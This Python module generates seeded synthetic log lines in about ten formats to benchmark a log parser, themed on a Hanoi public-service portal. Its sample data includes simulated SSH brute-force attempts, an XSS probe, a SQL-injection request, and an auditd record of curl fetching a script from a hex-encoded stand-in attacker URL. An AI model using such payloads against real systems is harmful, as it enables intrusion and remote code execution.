"""The lines bench_parse.py parses: realistic records of each format (Vietnamese names, the
city's public-service portal URLs, brute-force noise), the same every run (seeded)."""

from __future__ import annotations

import json
import random
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta

RECEIVED_AT = "2024-03-05T09:00:00.000000Z"  # the receive time of every line
START = datetime(2024, 3, 5, 7, 0, tzinfo=UTC)
LOCAL = timedelta(hours=7)

USERS = [
    "nguyenvana",
    "tranthib",
    "lehoangc",
    "phamminhd",
    "hoangthie",
    "vuquangf",
    "dangthig",
    "buixuanh",
    "Nguyễn Văn An",
    "Trần Thị Bình",
    "Lê Hoàng Cường",
    "admin",
    "root",
    "oracle",
]
HOSTS = ["web01", "web02", "dvc-app01", "dvc-db01", "mail01", "ns1"]
PATHS = [
    "/dich-vu-cong/ho-so?ma={code}",
    "/dich-vu-cong/tra-cuu?ma-ho-so={code}&so-cccd=0010{num}",
    "/thu-tuc-hanh-chinh/chi-tiet?id={num}&linh-vuc=h%E1%BB%99+t%E1%BB%8Bch",
    "/tin-tuc/ha-noi-trien-khai-dich-vu-cong-truc-tuyen-{num}.html",
    "/static/js/app.{num}.js",
    "/api/v1/ho-so/{code}/trang-thai",
    "/wp-login.php",
    "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
]
AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/122.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/17.3 Mobile/15E148 Safari/604.1",
    "Zalo/23.09.01 (Android 13; SM-A525F)",
    "python-requests/2.31.0",
]


def _ip(rng: random.Random) -> str:
    if rng.random() < 0.05:
        return f"2001:db8:{rng.randrange(65536):x}::{rng.randrange(65536):x}"
    first = rng.choice((203, 198, 113, 14, 42))
    return f"{first}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"


def _moments(count: int, rng: random.Random) -> Iterator[datetime]:
    moment = START
    for _ in range(count):
        moment += timedelta(microseconds=rng.randrange(0, 140_000))
        yield moment


def _bsd(moment: datetime) -> str:
    local = moment + LOCAL
    return local.strftime("%b ") + f"{local.day:>2}" + local.strftime(" %H:%M:%S")


def gen_auth(count: int, rng: random.Random) -> Iterator[str]:
    for moment in _moments(count, rng):
        host, user, ip = rng.choice(HOSTS), rng.choice(USERS), _ip(rng)
        pid, port = rng.randrange(1000, 65000), rng.randrange(1024, 65535)
        kind, peer = rng.random(), f"from {ip} port {port}"
        if kind < 0.45:
            message = f"sshd[{pid}]: Failed password for invalid user {user} {peer} ssh2"
        elif kind < 0.6:
            message = f"sshd[{pid}]: Accepted publickey for {user} {peer} ssh2: RSA SHA256:Yp3b9nX"
        elif kind < 0.7:
            message = f"sshd[{pid}]: Invalid user {user} {peer}"
        elif kind < 0.8:
            message = (
                f"sshd[{pid}]: pam_unix(sshd:auth): authentication failure; logname= uid=0 "
                f"euid=0 tty=ssh ruser= rhost={ip}  user={user}"
            )
        elif kind < 0.9:
            message = (
                f"sudo: {user} : TTY=pts/{pid % 9} ; PWD=/home/{user} ; USER=root ; "
                "COMMAND=/usr/bin/systemctl restart nginx"
            )
        else:
            message = (
                f"sshd[{pid}]: Connection closed by authenticating user {user} {ip} port {port} "
                "[preauth]"
            )
        yield f"{_bsd(moment)} {host} {message}"


def gen_rfc3164(count: int, rng: random.Random) -> Iterator[str]:
    for moment in _moments(count, rng):
        pid = rng.randrange(1000, 65000)
        message = rng.choice(
            (
                f"CRON[{pid}]: (root) CMD (/usr/local/bin/sao-luu-ho-so.sh >/dev/null 2>&1)",
                f"systemd[1]: Started Session {pid} of User {rng.choice(USERS)}.",
                f"kernel: [UFW BLOCK] IN=eth0 OUT= SRC={_ip(rng)} DST=10.0.0.5 PROTO=TCP DPT=23",
                f"postfix/smtpd[{pid}]: connect from unknown[{_ip(rng)}]",
            )
        )
        yield f"<{rng.choice((13, 30, 38, 86))}>{_bsd(moment)} {rng.choice(HOSTS)} {message}"


def gen_rfc5424(count: int, rng: random.Random) -> Iterator[str]:
    for moment in _moments(count, rng):
        stamp = (moment + LOCAL).isoformat(timespec="milliseconds").replace("+00:00", "+07:00")
        user = rng.choice(USERS)
        yield (
            f"<165>1 {stamp} {rng.choice(HOSTS)}.hanoi.gov.vn dvc-portal {rng.randrange(9999)} "
            f'AUDIT [origin@32473 ip="{_ip(rng)}" user="{user}"] \ufeffNgười dùng {user} '
            f"đã nộp hồ sơ HS{rng.randrange(10**8):08d}"
        )


def _access(count: int, rng: random.Random, extra: bool) -> Iterator[str]:
    for moment in _moments(count, rng):
        local = moment + LOCAL
        path = rng.choice(PATHS).format(
            code=f"HS{rng.randrange(10**8):08d}", num=rng.randrange(10**6)
        )
        status = rng.choice((200, 200, 200, 304, 302, 404, 403, 500))
        line = (
            f"{_ip(rng)} - - [{local.strftime('%d/%b/%Y:%H:%M:%S')} +0700] "
            f'"{rng.choice(("GET", "GET", "POST"))} {path} HTTP/1.1" {status} '
            f"{rng.randrange(50000)} "
            f'"https://dichvucong.hanoi.gov.vn/" "{rng.choice(AGENTS)}"'
        )
        yield line + (f' "{_ip(rng)}" rt=0.0{rng.randrange(99)}' if extra else "")


def gen_nginx(count: int, rng: random.Random) -> Iterator[str]:
    return _access(count, rng, extra=True)


def gen_apache(count: int, rng: random.Random) -> Iterator[str]:
    return _access(count, rng, extra=False)


def gen_json(count: int, rng: random.Random) -> Iterator[str]:
    for moment in _moments(count, rng):
        user = rng.choice(USERS)
        yield json.dumps(
            {
                "@timestamp": moment.isoformat(timespec="milliseconds").replace("+00:00", "Z"),
                "level": rng.choice(("info", "warn", "error")),
                "logger": "vn.gov.hanoi.dvc.HoSoController",
                "message": f"Nộp hồ sơ thành công cho {user}",
                "user": {"name": user, "id": rng.randrange(10**6)},
                "http": {"request": {"method": "POST"}, "response": {"status_code": 201}},
                "url": {"path": "/api/v1/ho-so"},
                "ho_so": {"ma": f"HS{rng.randrange(10**8):08d}", "linh_vuc": "Hộ tịch"},
                "source": {"ip": _ip(rng)},
                "trace": {"id": f"{rng.getrandbits(128):032x}"},
            },
            ensure_ascii=False,
        )


def gen_fortigate(count: int, rng: random.Random) -> Iterator[str]:
    for moment in _moments(count, rng):
        local = moment + LOCAL
        nanos = int(moment.timestamp() * 1e9)
        action = rng.choice(("accept", "accept", "close", "deny", "timeout"))
        yield (
            f'<189>date={local:%Y-%m-%d} time={local:%H:%M:%S} devname="FGT-HN-01" '
            f'devid="FG100FTK19000001" eventtime={nanos} tz="+0700" logid="0000000013" '
            f'type="traffic" subtype="forward" level="notice" vd="root" '
            f"srcip=10.10.{rng.randrange(256)}.{rng.randrange(1, 255)} "
            f'srcport={rng.randrange(1024, 65535)} srcintf="port1" '
            f'srcintfrole="lan" dstip={_ip(rng)} dstport=443 dstintf="wan1" dstintfrole="wan" '
            f'srccountry="Reserved" dstcountry="Vietnam" sessionid={rng.randrange(10**9)} '
            f'proto=6 action="{action}" policyid={rng.randrange(1, 80)} policytype="policy" '
            f'service="HTTPS" trandisp="snat" transip=113.160.1.2 '
            f"transport={rng.randrange(1024, 65535)} duration={rng.randrange(600)} "
            f"sentbyte={rng.randrange(10**6)} rcvdbyte={rng.randrange(10**6)} "
            f'sentpkt={rng.randrange(900)} rcvdpkt={rng.randrange(900)} appcat="unscanned"'
        )


def gen_cef(count: int, rng: random.Random) -> Iterator[str]:
    for moment in _moments(count, rng):
        millis = int(moment.timestamp() * 1000)
        user = rng.choice(USERS)
        yield (
            f"<134>{_bsd(moment)} waf01 CEF:0|Imperva Inc.|SecureSphere|14.7|{rng.randrange(9000)}|"
            f"SQL Injection \\| union select|{rng.randrange(1, 11)}|rt={millis} src={_ip(rng)} "
            f"spt={rng.randrange(1024, 65535)} dst=10.0.0.20 dpt=443 suser={user} act=blocked "
            f"request=https://dichvucong.hanoi.gov.vn/dich-vu-cong/ho-so?ma=1' union select 1-- "
            f"requestMethod=GET app=HTTPS proto=TCP msg=Tấn công SQL injection bị chặn a\\=b "
            f"cs1Label=Policy cs1=Hanoi DVC Web Policy"
        )


def gen_auditd(count: int, rng: random.Random) -> Iterator[str]:
    for sequence, moment in enumerate(_moments(count, rng), start=1000):
        stamp = f"{moment.timestamp():.3f}:{sequence}"
        pid = rng.randrange(1000, 65000)
        if sequence % 3 == 0:
            yield (
                f"type=SYSCALL msg=audit({stamp}): arch=c000003e syscall=59 success=yes exit=0 "
                f"a0=55d5c1b2a0 a1=55d5c1b2b0 a2=55d5c1b2c0 a3=0 items=2 ppid={pid - 1} pid={pid} "
                f"auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 "
                f'comm="bash" exe="/usr/bin/bash" subj=unconfined key="exec"'
            )
        elif sequence % 3 == 1:
            yield (
                f'type=EXECVE msg=audit({stamp}): argc=3 a0="curl" a1="-s" '
                f"a2=687474703A2F2F6576696C2E6578616D706C652F782E7368"
            )
        else:
            yield (
                f"type=USER_LOGIN msg=audit({stamp}): pid={pid} uid=0 auid=4294967295 "
                f"ses=4294967295 subj=system_u:system_r:sshd_t:s0-s0:c0.c1023 msg='op=login "
                f'acct="{rng.choice(USERS[:8])}" exe="/usr/sbin/sshd" hostname=? addr={_ip(rng)} '
                f"terminal=sshd res=failed'"
            )


def gen_windows(count: int, rng: random.Random) -> Iterator[str]:
    for record_id, moment in enumerate(_moments(count, rng), start=10**6):
        yield json.dumps(
            {
                "EventTime": (moment + LOCAL).strftime("%Y-%m-%d %H:%M:%S"),
                "Hostname": "DC01.hanoi.gov.vn",
                "Keywords": -9218868437227405312,
                "EventType": "AUDIT_FAILURE",
                "SeverityValue": 4,
                "Severity": "ERROR",
                "EventID": 4625,
                "SourceName": "Microsoft-Windows-Security-Auditing",
                "ProviderGuid": "{54849625-5478-4994-A5BA-3E3B0328C30D}",
                "Version": 0,
                "Task": 12544,
                "OpcodeValue": 0,
                "RecordNumber": record_id,
                "ProcessID": 636,
                "ThreadID": 4120,
                "Channel": "Security",
                "Message": "An account failed to log on.",
                "Category": "Logon",
                "Opcode": "Info",
                "SubjectUserSid": "S-1-0-0",
                "TargetUserName": rng.choice(USERS),
                "TargetDomainName": "HANOI",
                "Status": "0xc000006d",
                "LogonType": "3",
                "IpAddress": _ip(rng),
                "IpPort": str(rng.randrange(1024, 65535)),
                "EventReceivedTime": (moment + LOCAL).strftime("%Y-%m-%d %H:%M:%S"),
                "SourceModuleName": "eventlog",
                "SourceModuleType": "im_msvistalog",
            },
            ensure_ascii=False,
        )


def gen_auto(count: int, rng: random.Random) -> Iterator[str]:
    """What a syslog port receives: a mix of the syslog-borne formats."""
    streams = [
        gen_auth(count, rng),
        gen_rfc3164(count, rng),
        gen_rfc5424(count, rng),
        gen_fortigate(count, rng),
        gen_cef(count, rng),
    ]
    for index in range(count):
        yield next(streams[index % len(streams)])


Generator = Callable[[int, random.Random], Iterator[str]]
GENERATORS: dict[str, Generator] = {
    "rfc3164": gen_rfc3164,
    "rfc5424": gen_rfc5424,
    "auth": gen_auth,
    "auditd": gen_auditd,
    "nginx": gen_nginx,
    "apache": gen_apache,
    "json": gen_json,
    "fortigate": gen_fortigate,
    "cef": gen_cef,
    "windows": gen_windows,
    "auto": gen_auto,
}


def lines_of(name: str, count: int) -> list[str]:
    return list(GENERATORS[name](count, random.Random(20240305)))
